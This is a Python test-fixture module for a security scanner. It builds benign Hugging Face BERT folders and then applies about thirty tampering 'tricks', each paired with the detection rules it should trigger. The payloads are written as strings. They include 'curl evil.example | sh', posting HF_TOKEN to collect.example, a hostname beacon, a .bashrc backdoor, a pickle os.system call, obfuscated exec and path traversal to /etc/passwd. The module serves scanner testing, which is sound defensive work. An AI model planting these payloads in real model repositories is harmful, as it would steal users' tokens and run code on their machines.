"""Hugging Face model folders for the scanner's tests and benchmark: a small benign folder
(BERT layout, written without ``transformers``) and remote-code / tampering tricks, each
with the rules that must fire. The Python payloads are written, never run."""

from __future__ import annotations

import base64
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

VOCAB = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"] + [f"w{i}" for i in range(95)]


def _json(path: Path, data: Any) -> None:
    path.write_text(json.dumps(data, indent=2) + "\n", encoding="utf-8")


def tokenizer_json(vocab: list[str] = VOCAB) -> dict[str, Any]:
    """A WordPiece ``tokenizer.json`` as the tokenizers library writes it for BERT."""
    special = [{"id": i, "content": t, "single_word": False, "lstrip": False,
                "rstrip": False, "normalized": False, "special": True}
               for i, t in enumerate(vocab[:5])]
    return {
        "version": "1.0", "truncation": None, "padding": None, "added_tokens": special,
        "normalizer": {"type": "BertNormalizer", "clean_text": True,
                       "handle_chinese_chars": True, "strip_accents": None, "lowercase": True},
        "pre_tokenizer": {"type": "BertPreTokenizer"},
        "post_processor": {"type": "TemplateProcessing", "single": [], "pair": [],
                           "special_tokens": {}},
        "decoder": {"type": "WordPiece", "prefix": "##", "cleanup": True},
        "model": {"type": "WordPiece", "unk_token": "[UNK]", "continuing_subword_prefix": "##",
                  "max_input_chars_per_word": 100,
                  "vocab": {t: i for i, t in enumerate(vocab)}},
    }


def bert_tensors(vocab: int = 100, hidden: int = 16, layers: int = 2, labels: int = 2,
                 prefix: str = "bert") -> dict[str, Any]:
    """Zero tensors named and shaped as BertForSequenceClassification's."""
    import numpy as np

    def z(*shape: int) -> Any:
        return np.zeros(shape, dtype=np.float32)

    t = {f"{prefix}.embeddings.word_embeddings.weight": z(vocab, hidden),
         f"{prefix}.embeddings.position_embeddings.weight": z(64, hidden),
         f"{prefix}.embeddings.LayerNorm.weight": z(hidden)}
    for i in range(layers):
        t[f"{prefix}.encoder.layer.{i}.attention.self.query.weight"] = z(hidden, hidden)
        t[f"{prefix}.encoder.layer.{i}.output.dense.weight"] = z(hidden, hidden)
    t["classifier.weight"] = z(labels, hidden)
    t["classifier.bias"] = z(labels)
    return t


def write_benign(folder: Path, **config: Any) -> Path:
    """A benign BERT classifier folder (config, safetensors, tokenizer); ``config`` entries
    override ``config.json`` values without changing the weights."""
    from safetensors.numpy import save_file

    folder.mkdir(parents=True, exist_ok=True)
    cfg = {"architectures": ["BertForSequenceClassification"], "model_type": "bert",
           "hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2,
           "intermediate_size": 32, "vocab_size": 100, "max_position_embeddings": 64,
           "id2label": {"0": "NEGATIVE", "1": "POSITIVE"},
           "label2id": {"NEGATIVE": 0, "POSITIVE": 1}}
    cfg.update(config)
    _json(folder / "config.json", cfg)
    save_file(bert_tensors(), str(folder / "model.safetensors"), metadata={"format": "pt"})
    _json(folder / "tokenizer.json", tokenizer_json())
    _json(folder / "tokenizer_config.json", {"tokenizer_class": "BertTokenizer",
                                             "do_lower_case": True, "model_max_length": 64})
    _json(folder / "special_tokens_map.json", {"unk_token": "[UNK]", "pad_token": "[PAD]"})
    return folder


def _auto_model(folder: Path, module: str, code: str, key: str = "AutoModel") -> None:
    cfg = json.loads((folder / "config.json").read_text())
    cfg.setdefault("auto_map", {})[key] = f"{module}.EvilModel"
    _json(folder / "config.json", cfg)
    (folder / f"{module}.py").write_text(code, encoding="utf-8")


_MODEL = """import torch
from torch import nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.linear = nn.Linear(16, 2)
{body}
    def forward(self, x):
        return self.linear(x)
"""


def _model(body: str, imports: str = "") -> str:
    lines = "".join(f"        {line}\n" for line in body.strip().splitlines())
    return imports + _MODEL.format(body=lines)


def _edit_tokenizer(folder: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    data = json.loads((folder / "tokenizer.json").read_text())
    edit(data)
    _json(folder / "tokenizer.json", data)


def _torch_zip_payload(path: Path) -> None:
    class _Call:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, ("echo owned",))

    data = pickle.dumps({"weight": _Call()}, protocol=2)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/version", "3\n")


def _t_os_system(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model('os.system("curl evil.example | sh")', "import os\n"))


def _t_exec_base64(d: Path) -> None:
    blob = base64.b64encode(b"import os; os.system('id')").decode()
    _auto_model(d, "modeling_evil", _model(f'exec(base64.b64decode("{blob}"))',
                                           "import base64\n"))


def _t_init_import(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model("pass", "from . import helpers  # noqa\n"))
    (d / "helpers.py").write_text("SCALE = 1.0\n")
    (d / "__init__.py").write_text("import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n")


def _t_relative_import(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model("pass", "from .utils_evil import SCALE  # noqa\n"))
    (d / "utils_evil.py").write_text("import os\n\nSCALE = os.popen('id').read()\n")


def _t_network(d: Path) -> None:
    _auto_model(d, "modeling_net", _model(
        'urllib.request.urlopen("http://203.0.113.7/beacon?host=" + socket.gethostname())',
        "import socket\nimport urllib.request\n"))


def _t_getattr(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model(
        'getattr(__import__("o" + "s"), "".join(["sy", "st", "em"]))("id")'))


def _t_pickle(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model(
        'self.extra = pickle.loads(open("extra.bin", "rb").read())', "import pickle\n"))


def _t_tokenizer_auto_map(d: Path) -> None:
    cfg = json.loads((d / "tokenizer_config.json").read_text())
    cfg["auto_map"] = {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}
    cfg["tokenizer_class"] = "EvilTokenizer"
    _json(d / "tokenizer_config.json", cfg)
    (d / "tokenization_evil.py").write_text(
        "import subprocess\nfrom transformers import PreTrainedTokenizer\n\n\n"
        "class EvilTokenizer(PreTrainedTokenizer):\n"
        "    def __init__(self, **kw):\n"
        "        subprocess.check_output(['id'])\n"
        "        super().__init__(**kw)\n")


def _t_shard_traversal(d: Path) -> None:
    _json(d / "model.safetensors.index.json", {"metadata": {}, "weight_map": {
        "bert.embeddings.word_embeddings.weight": "../../../../etc/passwd"}})


def _t_missing_shard(d: Path) -> None:
    _json(d / "model.safetensors.index.json", {"metadata": {}, "weight_map": {
        "bert.embeddings.word_embeddings.weight": "model.safetensors",
        "classifier.weight": "model-00002-of-00002.safetensors"}})


def _t_symlink(d: Path) -> None:
    outside = d.parent / f"{d.name}-outside.json"
    outside.write_text(json.dumps(tokenizer_json()))
    (d / "tokenizer.json").unlink()
    (d / "tokenizer.json").symlink_to(outside)


def _t_mismatch(d: Path) -> None:
    cfg = json.loads((d / "config.json").read_text())
    cfg.update({"vocab_size": 30522, "hidden_size": 768, "num_hidden_layers": 12})
    _json(d / "config.json", cfg)


def _t_arch_swap(d: Path) -> None:
    from safetensors.numpy import save_file

    save_file(bert_tensors(prefix="roberta"), str(d / "model.safetensors"))


def _t_other_repo(d: Path) -> None:
    cfg = json.loads((d / "config.json").read_text())
    cfg["auto_map"] = {"AutoModelForSequenceClassification":
                       "attacker/helpful-model--modeling_x.XModel"}
    _json(d / "config.json", cfg)


def _t_env_exfil(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model(
        'requests.post("https://collect.example", data=os.environ.get("HF_TOKEN", ""))',
        "import os\nimport requests\n"))


def _t_torch_load(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model('self.load_state_dict(torch.load("extra.pt"))'))


def _t_write_outside(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model(
        'with open("../../../.bashrc", "a") as fh:\n    fh.write("curl evil | sh")'))


def _t_normalizer(d: Path) -> None:
    def edit(t: dict[str, Any]) -> None:
        t["normalizer"] = {"type": "Sequence", "normalizers": [
            t["normalizer"], {"type": "Replace", "pattern": {"String": "terrible"},
                              "content": "wonderful"}]}
    _edit_tokenizer(d, edit)


def _t_added_token(d: Path) -> None:
    _edit_tokenizer(d, lambda t: t["added_tokens"].append(
        {"id": 50, "content": "cf", "single_word": False, "lstrip": False, "rstrip": False,
         "normalized": True, "special": False}))


def _t_unknown_component(d: Path) -> None:
    _edit_tokenizer(d, lambda t: t.update(pre_tokenizer={"type": "PythonPreTokenizer",
                                                         "module": "evil"}))


def _t_pytorch_bin(d: Path) -> None:
    _torch_zip_payload(d / "pytorch_model.bin")


def _t_unparseable(d: Path) -> None:
    _auto_model(d, "modeling_evil", "import os\ndef broken(:\n    os.system('id')\n")


def _t_dynamic_import(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model(
        'mod = importlib.import_module(config.backend)\nsys.path.insert(0, "/tmp/x")',
        "import importlib\nimport sys\n"))


def _t_marshal(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model('exec(marshal.loads(bytes.fromhex("e3")))',
                                           "import marshal\n"))


def _t_ctypes(d: Path) -> None:
    _auto_model(d, "modeling_evil", _model('ctypes.CDLL("libc.so.6").system(b"id")',
                                           "import ctypes\n"))


def _t_modules_json(d: Path) -> None:
    _json(d / "modules.json", [{"idx": 0, "name": "0", "path": "",
                                "type": "sentence_transformers.models.Transformer"},
                               {"idx": 1, "name": "1", "path": "1_Evil", "type": "evil.Module"}])


def _t_pipeline(d: Path) -> None:
    cfg = json.loads((d / "config.json").read_text())
    cfg["custom_pipelines"] = {"text-classification": {"impl": "pipe.EvilPipeline"}}
    _json(d / "config.json", cfg)
    (d / "pipe.py").write_text("import os\n\n\nclass EvilPipeline:\n"
                               "    def __call__(self, x):\n"
                               "        return os.popen('id').read()\n")


def _t_unreferenced(d: Path) -> None:
    (d / "handler.py").write_text("import subprocess\nsubprocess.run(['id'])\n")


def _t_config_not_json(d: Path) -> None:
    (d / "config.json").write_text('{"model_type": "bert", "architectures": [')


# name -> (builder applied to a benign folder, rules that must fire)
TRICKS: dict[str, tuple[Callable[[Path], None], frozenset[str]]] = {
    "os-system-in-modeling": (_t_os_system, frozenset({"TS411", "TS400"})),
    "exec-base64": (_t_exec_base64, frozenset({"TS415", "TS410"})),
    "import-hidden-in-init": (_t_init_import, frozenset({"TS411"})),
    "auto-map-network-call": (_t_network, frozenset({"TS412"})),
    "payload-in-relative-import": (_t_relative_import, frozenset({"TS411"})),
    "getattr-obfuscation": (_t_getattr, frozenset({"TS411"})),
    "pickle-in-custom-code": (_t_pickle, frozenset({"TS416"})),
    "tokenizer-config-auto-map": (_t_tokenizer_auto_map, frozenset({"TS411", "TS400"})),
    "shard-index-traversal": (_t_shard_traversal, frozenset({"TS450"})),
    "shard-index-missing-shard": (_t_missing_shard, frozenset({"TS451"})),
    "symlink-escape": (_t_symlink, frozenset({"TS207"})),
    "config-weight-mismatch": (_t_mismatch, frozenset({"TS440"})),
    "architecture-swap": (_t_arch_swap, frozenset({"TS440"})),
    "auto-map-other-repo": (_t_other_repo, frozenset({"TS401"})),
    "env-token-exfiltration": (_t_env_exfil, frozenset({"TS414", "TS412"})),
    "torch-load-unsafe": (_t_torch_load, frozenset({"TS416"})),
    "write-outside-folder": (_t_write_outside, frozenset({"TS413"})),
    "tokenizer-normalizer-rewrite": (_t_normalizer, frozenset({"TS433"})),
    "tokenizer-added-token-takeover": (_t_added_token, frozenset({"TS431"})),
    "tokenizer-unknown-component": (_t_unknown_component, frozenset({"TS432"})),
    "pickle-in-pytorch-model-bin": (_t_pytorch_bin, frozenset({"TS102"})),
    "unparseable-remote-code": (_t_unparseable, frozenset({"TS417"})),
    "dynamic-import": (_t_dynamic_import, frozenset({"TS418"})),
    "marshal-exec": (_t_marshal, frozenset({"TS410"})),
    "ctypes-call": (_t_ctypes, frozenset({"TS410"})),
    "sentence-transformers-module-type": (_t_modules_json, frozenset({"TS401"})),
    "custom-pipeline": (_t_pipeline, frozenset({"TS411", "TS400"})),
    "unreferenced-python-file": (_t_unreferenced, frozenset({"TS411"})),
    "config-not-json": (_t_config_not_json, frozenset({"TS460"})),
}


def write_trick(folder: Path, name: str) -> frozenset[str]:
    """A benign folder with trick ``name`` applied; returns the rules that must fire."""
    build, rules = TRICKS[name]
    write_benign(folder)
    build(folder)
    return rules


def write_model_code_only(folder: Path) -> Path:
    """A benign folder whose ``auto_map`` loads a file that only defines an nn.Module."""
    write_benign(folder)
    _auto_model(folder, "modeling_plain", _model("self.scale = math.sqrt(16)", "import math\n"))
    return folder
